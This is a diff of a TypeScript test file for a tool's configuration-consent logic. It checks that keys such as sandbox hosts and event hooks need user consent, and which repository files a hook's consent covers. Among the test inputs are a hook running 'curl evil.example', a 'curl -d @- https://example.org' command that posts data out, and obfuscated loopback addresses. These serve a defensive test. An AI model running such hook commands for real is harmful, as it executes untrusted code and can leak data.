@@ -3,7 +3,7 @@ import { configSchema } from '../../../src/model/config.ts';
 import { consentDigest, consentNeeded, differences, withhold } from '../../../src/specs/config/consent.ts';
 
 const around = { baseUrl: 'https://proxy.example.org', isOwnTarget: (target: string) => !target.startsWith('..') };
-const noFiles = { program: () => null, inCheckout: () => null };
+const noFiles = { program: () => null, onDisk: () => null, inCheckout: () => null };
 const asks = (data: object, files = noFiles as Parameters<typeof consentNeeded>[2]) =>
   consentNeeded(data, around, files);
 
@@ -42,6 +42,9 @@ test.each<[key: string, data: object]>([
   ['sandbox.hosts', { sandbox: { hosts: ['127.1'] } }],
   ['sandbox.hosts', { sandbox: { hosts: ['0x7f.0x1'] } }],
   ['sandbox.toolchains', { sandbox: { toolchains: ['/home/ada'] } }],
+  ['on', { on: { 'unit.failed': './notify.sh' } }],
+  ['on', { on: { 'run.ended': { webhook: '$SLACK_WEBHOOK', format: 'slack' } } }],
+  ['on', { on: { 'run.ended': [{ command: 'true', timeout: '5s' }] } }],
   ['hooks', { hooks: { start: 'curl evil.example' } }], // a key that nobody classified
 ])('%s needs consent, and without it has no effect: %j', (key, data) => {
   const needed = asks(data);
@@ -83,6 +86,7 @@ describe('the digest', () => {
     consentDigest(
       asks(of, {
         program: (name) => ({ path: name, content: program }),
+        onDisk: () => null,
         inCheckout: (name) => (name === 'scripts/test.sh' ? { path: name, content: script } : null),
       }),
     );
@@ -108,4 +112,23 @@ describe('the digest', () => {
     const now = asks({ ...data, sandbox: { allowUnsandboxed: true, network: 'host' } });
     expect(differences(before, now).map(({ key, was }) => [key, was])).toEqual([['sandbox.network', null]]);
   });
+});
+
+test.each<[command: string, covers: readonly string[]]>([
+  ['./notify.sh', ['./notify.sh']],
+  ['sh notify.sh --to "$USER"', ['notify.sh']],
+  ['cd tools && ./post', ['tools']],
+  ['sh tools/*.sh', ['tools']],
+  ['cat <tools/text', ['tools/text']],
+  ['sh tools/"post"', ['tools/']],
+  ['npm run notify', ['package.json']],
+  ['make -s notify', ['Makefile']],
+  ['curl -d @- https://example.org', []],
+  ['~/bin/notify', []],
+  ['make-notify', []],
+])('the consent to a hook covers what it runs of the repository: %s', (command, covers) => {
+  const there = ['./notify.sh', 'notify.sh', 'tools', 'tools/', 'tools/text', 'package.json', 'Makefile', 'bin/notify'];
+  const onDisk = (name: string) => (there.includes(name) ? { path: name, content: 'x' } : null);
+  const [needed] = asks({ on: { 'unit.failed': [{ command }] } }, { ...noFiles, onDisk });
+  expect(needed?.files.map(({ path }) => path)).toEqual(covers);
 });
